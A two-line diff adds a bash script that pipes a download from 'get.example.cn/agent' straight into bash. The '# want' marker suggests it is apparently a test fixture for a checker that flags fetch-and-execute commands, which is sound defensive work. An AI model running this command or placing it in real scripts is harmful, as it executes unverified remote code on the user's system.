@@ -1,0 +1,2 @@
+#!/bin/bash
+bash <(curl -s https://get.example.cn/agent) # want
